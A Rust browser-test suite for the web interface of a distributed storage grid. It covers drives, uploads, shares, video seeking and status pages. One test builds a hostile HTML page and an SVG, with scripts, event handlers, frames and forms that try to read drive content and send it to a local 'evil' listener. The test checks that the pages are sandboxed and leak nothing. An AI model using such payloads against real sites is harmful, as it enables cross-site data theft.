//! People at the pages, with a real browser and a grid of real processes.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tallac_tests::browser::{self, Browser};
use tallac_tests::film::{self, film, grey};
use tallac_tests::{Grid, Options};

/// A picture of 1 by 1.
const PNG: &str =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

fn grid() -> Grid {
    let mut grid = Grid::create(&Options {
        servers: 3,
        vdrive: true,
        shares: Some("2,2,3"),
        ..Options::ten("blocking")
    });
    for node in ["gw", "s0"] {
        fs::copy(grid.path("introducer").join("vdrive.furl"), grid.path(node).join("vdrive.furl"))
            .expect("a furl");
    }
    for node in ["introducer", "gw", "s0", "s1", "s2"] {
        grid.run(node);
    }
    grid.wait_connected("gw", 3);
    grid.wait_until("gw", |status| status["shared_root"]["known"] == true);
    grid
}

fn files(directory: &Path, files: &[(&str, &[u8])]) -> Vec<PathBuf> {
    files
        .iter()
        .map(|(name, content)| {
            let path = directory.join(name);
            fs::write(&path, content).expect("a file");
            path
        })
        .collect()
}

fn lists(name: &str) -> String {
    format!("[...document.querySelectorAll('.listing .name a')].some(a => a.textContent == {name:?})")
}

fn says(browser: &mut Browser, text: &str) {
    let page = browser.text("document.body.innerText");
    assert!(page.contains(text), "{text:?} in {page}");
}

/// Makes the personal drive with the page that is for that; gives its address and its capability.
fn make_drive(browser: &mut Browser, url: &str) -> (String, String) {
    browser.go(&format!("{url}/drive/personal"));
    says(browser, "Your drive has not been made yet");
    browser.shoot("drive-to-make");
    browser.submit("form[action='/drive/personal'] input[name=t]", &[]);
    says(browser, "Keep a copy of it in a safe place");
    let cap = browser.text("document.querySelector('#share-cap').value");
    assert!(cap.starts_with("URI:DIR2:"), "the drive's capability is shown, once");
    browser.shoot("drive-made");
    browser.go(&format!("{url}/drive/personal"));
    let drive = browser.text("location.href").trim_end_matches('/').to_owned();
    assert!(drive.contains("/drive/") && !drive.contains("personal") && !drive.contains("URI"), "{drive}");
    (drive, cap)
}

/// Moves what the page is about, walking through folders by their names.
fn move_to(browser: &mut Browser, way: &[&str]) {
    browser.follow("a[href$='?t=move']");
    browser.shoot("move-from");
    for name in way {
        let link = format!(
            "[...document.querySelectorAll('.folders button')].find(b => b.textContent.trim() == {name:?})"
        );
        browser.value(&format!("{link}.id = 'chosen'; 0"));
        browser.follow("#chosen");
    }
    browser.shoot("move");
    browser.submit(".chooser input[name=to_way]", &[]);
}

#[test]
fn a_drive_is_used_with_a_browser() {
    let Some(program) = browser::find() else { return };
    let grid = grid();
    let here = tempfile::tempdir().expect("a directory");
    let url = format!("http://{}", grid.authority("gw"));
    let mut browser = Browser::start(&program);

    browser.go(&format!("{url}/"));
    says(&mut browser, "Ready. New files survive the loss of any 1 of 3 servers.");
    says(&mut browser, "3 of 3 known servers are connected");
    browser.go(&format!("{url}/drive/shared"));
    assert_eq!(browser.text("document.querySelector('h1').textContent"), "Shared drive");
    let (drive, personal) = make_drive(&mut browser, &url);
    let kept = fs::read_to_string(grid.path("gw").join("private/personal-root.cap")).expect("a drive");
    assert_eq!(kept.trim(), personal);

    // Three files are dropped on a slow line: their progress shows, and one is given up.
    let png = data_encoding::BASE64.decode(PNG.as_bytes()).expect("base64");
    let [big, unwanted] = [2_000_000, 4_000_000].map(|len| tallac_tests::content(7, len));
    let dropped: [(&str, &[u8]); 3] = [("dot.png", &png), ("big.bin", &big), ("unwanted.bin", &unwanted)];
    let paths = files(here.path(), &dropped);
    browser.throttle(1_000_000);
    browser.drop_files(&paths);
    let row = |name: &str, what: &str| {
        format!(
            "[...document.querySelectorAll('.transfer')].some(t => t.firstChild.textContent == {name:?} && {what})"
        )
    };
    browser.wait(&row("big.bin", "t.querySelector('progress')?.value > 0"));
    browser.wait(&row("big.bin", "/[kM]B, .*[kM]B\\/s/.test(t.querySelector('.state').textContent)"));
    browser.shoot("uploading");
    browser.click("button[aria-label='Cancel unwanted.bin']");
    browser.wait(&row("unwanted.bin", "t.querySelector('.state').textContent == 'cancelled'"));
    browser.throttle(0);
    for name in ["dot.png", "big.bin"] {
        browser.wait(&lists(name));
    }
    assert!(browser.value(&lists("unwanted.bin")) == false);

    browser.value("document.querySelector('#folder').closest('details').open = true; 0");
    browser.submit("#folder", &[("#folder", "Holidays & more")]);
    assert!(browser.value(&lists("Holidays & more")) == true);
    // The name of what is there is refused, and that is said on a page.
    browser.submit("#folder", &[("#folder", "Holidays & more")]);
    says(&mut browser, "There is a directory of this name already");
    browser.shoot("refusal");

    browser.go(&format!("{drive}/dot.png"));
    browser.wait("document.querySelector('.preview img').naturalWidth == 1");
    browser.submit("#to-name", &[("#to-name", "point.png")]);
    assert!(browser.value(&lists("point.png")) == true && browser.value(&lists("dot.png")) == false);
    browser.go(&format!("{drive}/point.png"));
    move_to(&mut browser, &["Holidays & more"]);
    assert!(browser.value(&lists("point.png")) == false);
    browser.go(&format!("{drive}/Holidays%20%26%20more"));
    assert!(browser.value(&lists("point.png")) == true);

    browser.go(&format!("{drive}/Holidays%20%26%20more?t=share"));
    let cap = browser.text("document.querySelector('#share-cap').value");
    assert!(cap.starts_with("URI:DIR2-RO:"), "a share only reads, unless told otherwise");
    assert!(browser.value("document.querySelector('.code img').naturalWidth > 0") == true);
    browser.shoot("share");

    // A friend opens it at another node, and is offered no forms.
    browser.go(&format!("http://{}/open", grid.authority("s0")));
    browser.submit("#cap", &[("#cap", &cap)]);
    assert!(browser.value(&lists("point.png")) == true);
    assert!(browser.value("document.querySelectorAll('main form').length") == 0, "nothing can be changed");
    browser.shoot("folder-read-only");
    let point = browser.text("document.querySelector('.listing td.name a').href");
    browser.go(&point);
    browser.wait("document.querySelector('.preview img').naturalWidth == 1");
    assert!(browser.value("document.querySelectorAll('main form').length") == 0);
    browser.shoot("picture");
    let foreign = browser.text("location.pathname");
    browser.go(&format!("{url}{foreign}"));
    says(&mut browser, "leads nowhere at this node");

    browser.go(&format!("{drive}/big.bin"));
    browser.value("document.querySelector('details.danger').open = true; 0");
    browser.submit("details.danger input[name=t]", &[]);
    assert!(browser.value(&lists("big.bin")) == false);
    leaves_no_trace(browser, &grid, &[&personal, &cap]);
}

/// Whoever looks later finds no capability: not in what the browser keeps, not in what the nodes log.
fn leaves_no_trace(browser: Browser, grid: &Grid, caps: &[&str]) {
    let kept = browser.close();
    assert_ne!(kept.holding("/drive/").len(), 0, "the search finds what is there");
    for cap in caps {
        let secret = cap.split(':').nth(2).expect("a key");
        assert_eq!(kept.holding(secret), Vec::<PathBuf>::new(), "in the browser's profile");
        for node in ["gw", "s0"] {
            assert!(!grid.log(node).contains(secret), "in the log of {node}");
        }
    }
}

#[test]
fn a_film_of_50_megabytes_is_seeked_in() {
    let Some(program) = browser::find() else { return };
    let grid = grid();
    let here = tempfile::tempdir().expect("a directory");
    let film = film(150);
    assert!(film.len() > 50_000_000, "{}", film.len());
    let path = files(here.path(), &[("film.mp4", &film)]).remove(0);
    grid.command("gw", &["put", "--quiet", path.to_str().expect("text"), "film.mp4"], b"").good();
    let fetched = || {
        let statistics = grid.ask("GET", "/statistics?t=json", b"").good();
        let statistics: serde_json::Value = serde_json::from_str(&statistics).expect("JSON");
        statistics["counters"]["downloader.bytes_downloaded"].as_u64().expect("a number")
    };
    let mut before = 0;
    // Not all of it is fetched for that. While seeking takes its time, the browser fetches more, so that this is
    // not to be seen each time on a machine that is busy.
    let seeks_by_range = (0..3).any(|_| {
        let mut browser = Browser::start(&program);
        browser.go(&format!("http://{}/drive/personal/film.mp4", grid.authority("gw")));
        seek(&mut browser);
        let all = fetched() - before;
        browser.shoot("film");
        drop(browser);
        before = fetched();
        println!("{all} bytes were fetched");
        all < 45_000_000
    });
    assert!(seeks_by_range);
}

/// Near the end, then near the beginning: the picture is the one of that moment.
fn seek(browser: &mut Browser) {
    let seconds = f64::from(150 / film::RATE);
    browser.wait(&format!("document.querySelector('video').duration == {seconds}"));
    for half_second in [140, 9] {
        let time = (f64::from(half_second) + 0.5) / f64::from(film::RATE);
        let shown = browser.value(&format!(
            "(async () => {{ const v = document.querySelector('video'); \
             await new Promise(r => {{ v.onseeked = r; v.currentTime = {time}; }}); \
             const c = document.createElement('canvas').getContext('2d', {{willReadFrequently: true}}); \
             c.drawImage(v, 0, 0, 8, 8); return c.getImageData(4, 4, 1, 1).data[0]; }})()"
        ));
        // Luma from 16 to 235 becomes 0 to 255.
        let expected = (f64::from(grey(half_second)) - 16.0) * 255.0 / 219.0;
        let shown = shown.as_f64().expect("a colour");
        assert!((shown - expected).abs() < 3.0, "at {time} s: {shown}, not {expected}");
    }
}

#[test]
fn all_of_it_without_scripts() {
    let Some(program) = browser::find() else { return };
    let grid = grid();
    let here = tempfile::tempdir().expect("a directory");
    let url = format!("http://{}", grid.authority("gw"));
    let mut browser = Browser::start(&program);
    browser.scripts(false);
    let (drive, _) = make_drive(&mut browser, &url);
    assert!(browser.value("document.querySelector('#file').multiple") == false);
    let path = files(here.path(), &[("notes.txt", b"Buy milk.")]).remove(0);
    browser.choose("#file", &path);
    browser.value("document.querySelector('#upload').requestSubmit(); 0");
    browser.wait(&lists("notes.txt"));
    browser.submit("#folder", &[("#folder", "letters")]);
    browser.go(&format!("{drive}/notes.txt"));
    move_to(&mut browser, &["letters"]);
    browser.go(&drive);
    browser.click(".listing td.name a");
    browser.wait(&lists("notes.txt"));
    let taken = tempfile::tempdir().expect("a directory");
    browser.keep_downloads(taken.path());
    browser.click(".listing .actions a[download]");
    let (file, begun) = (taken.path().join("notes.txt"), Instant::now());
    while fs::read(&file).ok().as_deref() != Some(b"Buy milk.") {
        assert!(begun.elapsed() < Duration::from_secs(30), "it was not downloaded");
        std::thread::sleep(Duration::from_millis(50));
    }
    // What changes by itself is loaded again by the browser.
    browser.go(&format!("{url}/status"));
    let refreshes = "!!document.querySelector('noscript meta[http-equiv=refresh]') || \
                     !!document.querySelector('meta[http-equiv=refresh]')";
    assert!(browser.value(refreshes) == true);
}

#[test]
fn what_is_shown_of_files_and_of_the_node() {
    let Some(program) = browser::find() else { return };
    let mut grid = grid();
    let url = format!("http://{}", grid.authority("gw"));
    let mut browser = Browser::start(&program);
    let (drive, personal) = make_drive(&mut browser, &url);
    for path in ["Pictures/2026/lake.txt", "Pictures/2026/mountain.txt", "Letters/to Ann.txt"] {
        let content = tallac_tests::content(3, 150_000 + path.len());
        grid.command("gw", &["put", "--quiet", "-", path], &content).good();
    }
    browser.go(&drive);
    browser.shoot("folder");
    browser.go(&format!("{drive}/Pictures/2026/lake.txt"));
    browser.shoot("file");

    browser.go(&format!("{drive}/Pictures/2026/lake.txt?t=info"));
    says(&mut browser, "3 of 3 shares were found on 3 servers. It survives the loss of any 1 of them.");
    says(&mut browser, "any 2 of 3 shares give it back");
    says(&mut browser, "Segments");
    assert!(browser.value("document.querySelectorAll('.map .holds').length") == 3);
    assert!(!browser.text("document.documentElement.outerHTML").contains("URI:"), "unless it is asked for");
    browser.shoot("information");
    browser.go(&format!("{drive}/Pictures/2026/lake.txt?t=capabilities"));
    let caps = browser.value("[...document.querySelectorAll('textarea')].map(t => t.value.split(':')[1])");
    assert_eq!(caps, serde_json::json!(["CHK", "CHK-Verifier"]), "the strongest first");
    browser.shoot("capabilities");
    browser.go(&format!("{drive}/Pictures?t=info"));
    says(&mut browser, "3 of 3 shares were found on 3 servers");
    says(&mut browser, "Version");

    browser.go(&format!("{drive}?t=manifest"));
    says(&mut browser, "Pictures/2026/mountain.txt");
    says(&mut browser, "All together");
    assert!(browser.value("document.querySelectorAll('.manifest tbody tr').length") == 7);
    browser.shoot("manifest");
    browser.click(".manifest tbody tr:last-child a");
    browser.wait("location.pathname.endsWith('.txt')");

    browser.go(&format!("{url}/status"));
    says(&mut browser, "making it durable");
    says(&mut browser, "encoding and sealing");
    says(&mut browser, "3 shares on 3 servers: survives the loss of any 1");
    browser.shoot("activity");
    browser.go(&format!("{url}/grid"));
    assert!(browser.value("document.querySelectorAll('.map .holds').length") == 3);
    browser.shoot("grid");
    browser.go(&format!("http://{}/introducer", grid.authority("introducer")));
    says(&mut browser, "3 servers");
    says(&mut browser, "4 nodes");
    browser.shoot("introducer");
    browser.go(&format!("http://{}/", grid.authority("s0")));
    browser.wait("/\\d+ shares, .* used/.test(document.body.innerText)");
    browser.go(&format!("{url}/open"));
    browser.shoot("open");

    // A server goes away: the page says so by itself, and since when.
    browser.go(&format!("{url}/grid"));
    grid.kill("s1");
    browser.wait("/not connected.*for \\d/.test(document.body.innerText)");
    browser.shoot("grid-without-one");
    browser.go(&format!("{url}/"));
    says(&mut browser, "2 of 3 known servers are connected");
    browser.shoot("welcome");
    browser.go(&format!("{drive}/Pictures/2026/lake.txt?t=info"));
    says(&mut browser, "2 of 3 shares were found on 2 servers");
    browser.shoot("information-without-one");
    browser.go(&format!("{drive}/Pictures?t=info"));
    browser.shoot("information-of-a-folder");

    // With one server, nothing can be stored: the pages say so, and why.
    grid.kill("s2");
    browser.go(&format!("{url}/"));
    let begun = Instant::now();
    while !browser.text("document.body.innerText").contains("Nothing can be stored now") {
        assert!(begun.elapsed() < Duration::from_secs(60), "it is not noticed");
        std::thread::sleep(Duration::from_millis(200));
        browser.go(&format!("{url}/"));
    }
    browser.shoot("welcome-not-ready");
    browser.go(&format!("{drive}/Letters/"));
    says(&mut browser, "That was not possible");
    browser.shoot("refusal-without-servers");
    leaves_no_trace(browser, &grid, &[&personal]);
}

/// A site of somebody else: notes all that it is sent.
fn evil() -> (String, Arc<Mutex<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let authority = listener.local_addr().expect("an address").to_string();
    let heard = Arc::new(Mutex::new(String::new()));
    let noted = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let noted = noted.clone();
            // Browsers connect ahead, and may say nothing for long.
            std::thread::spawn(move || {
                let mut head = [0; 8192];
                let len = stream.read(&mut head).unwrap_or_default();
                noted.lock().expect("no panic").push_str(&String::from_utf8_lossy(&head[..len]));
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nAccess-Control-Allow-Origin: *\r\n\
                      Connection: close\r\n\r\nevil",
                );
            });
        }
    });
    (authority, heard)
}

/// It tries whatever a page can: scripts, forms, frames, pictures, styles, the addresses of others, to be
/// told where it came from and to tell it.
fn hostile(evil: &str) -> String {
    format!(
        "<!DOCTYPE html><title>untouched</title>\
         <script>document.title = 'scripts run'; fetch('/drive/personal').then(a => fetch('http://{evil}/fetched'))</script>\
         <script src=http://{evil}/script></script>\
         <link rel=stylesheet href=http://{evil}/style>\
         <style>@import 'http://{evil}/import'; body {{ background: url(http://{evil}/background) }}</style>\
         <meta http-equiv=refresh content='0; url=http://{evil}/refreshed'>\
         <base href=http://{evil}/base/>\
         <img src=http://{evil}/picture onerror=\"document.title = 'scripts run'\">\
         <svg onload=\"document.title = 'scripts run'\"></svg>\
         <iframe src=/drive/personal></iframe><iframe src=http://{evil}/frame></iframe>\
         <object data=/drive/personal></object><embed src=/status>\
         <video src=http://{evil}/video></video>\
         <form id=f method=post action=/open><input name=cap value=URI:LIT:me><button id=send>send</button></form>\
         <a id=away href=http://{evil}/clicked>a link</a>"
    )
}

#[test]
fn a_hostile_page_reads_and_tells_nothing() {
    let Some(program) = browser::find() else { return };
    let grid = grid();
    let (evil, heard) = evil();
    let url = format!("http://{}", grid.authority("gw"));
    let mut browser = Browser::start(&program);
    let (drive, personal) = make_drive(&mut browser, &url);
    let cap = grid.command("gw", &["put", "--quiet", "-", "hostile.html"], hostile(&evil).as_bytes()).good();
    let cap = String::from_utf8(cap.stdout).expect("text").trim().to_owned();
    grid.command("gw", &["put", "--quiet", "-", "hostile.svg"], SVG.as_bytes()).good();

    // In the page of the file it is shown as text.
    browser.go(&format!("{drive}/hostile.html"));
    browser.shoot("hostile");
    let handle = drive.rsplit('/').next().expect("a handle");
    // By itself, it is a page of nobody: nothing in it runs, loads, or reads what is not its own.
    for page in [
        format!("{drive}/hostile.html?t=raw"),
        format!("{url}/uri/{}?filename=hostile.html", tallac_tests::web::escaped(&cap)),
        format!("{drive}/hostile.svg?t=raw"),
    ] {
        browser.go(&page);
        std::thread::sleep(Duration::from_millis(300));
        assert!(!browser.text("document.title").contains("scripts run"), "{page}");
        assert_eq!(browser.text("self.origin"), "null");
        assert_eq!(
            browser.text(&format!("fetch('{drive}').then(() => 'read', () => 'refused')")),
            "refused",
            "nor could a script that ran"
        );
        let framed = "(() => { try { return !!window[0].document } catch { return 'refused' } })()";
        assert_eq!(browser.text(framed), "refused", "nor could it look into a frame");
    }
    assert_eq!(*heard.lock().expect("no panic"), "", "nothing was asked of the other site");
    // A form of it is refused by the browser; if it were not, the node would want its token.
    browser.go(&format!("{drive}/hostile.html?t=raw"));
    browser.click("#send");
    std::thread::sleep(Duration::from_millis(300));
    assert!(browser.text("location.href").contains("hostile.html"));
    // Whoever follows its link takes nothing along: not even the address, which holds a handle.
    browser.click("#away");
    browser.wait("document.body.innerText == 'evil'");
    assert_eq!(browser.text("document.referrer"), "");
    let told = heard.lock().expect("no panic").clone();
    assert!(told.starts_with("GET /clicked"), "{told}");
    // It may be asked for its own sign then, by its own page.
    assert!(!told.contains(&grid.authority("gw")), "where it came from is not told: {told}");
    assert!(!told.contains(handle) && !told.contains("URI"), "{told}");

    // Titles and addresses of what was visited are known to the browser; the one that a program uses was
    // typed in by hand.
    let titles = browser.call("Page.getNavigationHistory", serde_json::json!({}));
    for entry in titles["entries"].as_array().expect("entries") {
        let address = entry["url"].as_str().expect("an address");
        let title = entry["title"].as_str().expect("a title");
        let typed = address.contains("/uri/URI%3ACHK");
        assert!(typed || !address.contains("URI"), "{address}");
        assert!(typed || !title.contains("URI"), "{title}");
    }
    leaves_no_trace(browser, &grid, &[&personal]);
}

/// A picture may hold scripts, too.
const SVG: &str = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='scripts run'\">\
     <title>untouched</title><script>document.title = 'scripts run'</script><rect width='9' height='9'/></svg>";
